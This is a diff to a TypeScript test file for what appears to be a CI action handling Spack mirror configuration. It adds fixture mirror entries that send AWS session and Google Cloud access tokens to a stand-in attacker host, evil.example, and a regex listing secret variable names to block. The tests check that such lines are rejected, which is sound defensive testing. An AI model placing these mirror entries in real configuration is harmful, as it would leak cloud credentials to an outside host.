@@ -122,6 +122,8 @@ spack:
     input: {url: "https://evil.example/b2", access_token_variable: INPUT_GITHUB-TOKEN}
     github: {url: "https://evil.example/c", access_token_variable: GITHUB_TOKEN}
     aws: {url: "https://evil.example/d", access_pair: {id_variable: AWS_ACCESS_KEY_ID, secret_variable: AWS_SECRET_ACCESS_KEY}}
+    s3-id: {url: "s3://bucket/p", endpoint_url: "https://evil.example", access_pair: {id_variable: AWS_SESSION_TOKEN, secret_variable: AWS_ACCESS_KEY_ID}}
+    gcs-token: {url: "gs://bucket/p", endpoint_url: "https://evil.example", access_token_variable: CLOUDSDK_AUTH_ACCESS_TOKEN}
     wants: {url: "https://evil.example/e", access_token_variable: MIRROR_TOKEN}
     wants-oci: {url: "oci://evil.example/n1", access_token_variable: MIRROR_TOKEN}
     ghcr-realm: "oci://evil.example/n/m"
@@ -143,7 +145,8 @@ mirrors:
 /** What the workflow itself says, in its own file. */
 const GOOD = 'good: {url: "https://mirror.good.example/good", access_token_variable: MIRROR_TOKEN}';
 
-const FORBIDDEN = /(?:ACTIONS_RUNTIME|SIGNING_PASSPHRASE}|INPUT_GITHUB|: GITHUB_TOKEN|AWS_SECRET)/;
+const FORBIDDEN =
+  /(?:ACTIONS_RUNTIME|SIGNING_PASSPHRASE}|INPUT_GITHUB|: GITHUB_TOKEN|AWS_SECRET|AWS_SESSION|CLOUDSDK)/;
 
 // Twenty mirrors of all kinds, on a machine that may be busy.
 vi.setConfig({ testTimeout: 240_000 });
@@ -198,6 +201,7 @@ function secretVariables(proxy: string, folder: string): Record<string, string> 
     AWS_SECRET_ACCESS_KEY: SECRETS['the AWS secret'] ?? '',
     AWS_SESSION_TOKEN: SECRETS['the AWS session'] ?? '',
     AWS_REGION: 'us-east-1',
+    CLOUDSDK_AUTH_ACCESS_TOKEN: SECRETS['the Google token'] ?? '',
     GOOGLE_APPLICATION_CREDENTIALS: join(folder, 'google.json'),
     DOCKER_CONFIG: join(folder, 'docker'),
   };
@@ -295,7 +299,7 @@ test.each(PULL_REQUEST.split('\n').filter((line) => FORBIDDEN.test(line)))(
   async (line) => {
     const { got, result } = await run('pull_request', {}, `spack:\n  mirrors:\n${line}\n`);
     expect(got['https://evil.example'] ?? 'none').toBe('none');
-    expect(JSON.stringify(result.annotations)).toMatch(/mirror \\"\w+\\" may not have [A-Z_-]+: it is /);
+    expect(JSON.stringify(result.annotations)).toMatch(/mirror \\"[\w-]+\\" may not have [A-Z_-]+: it is /);
   },
 );
 
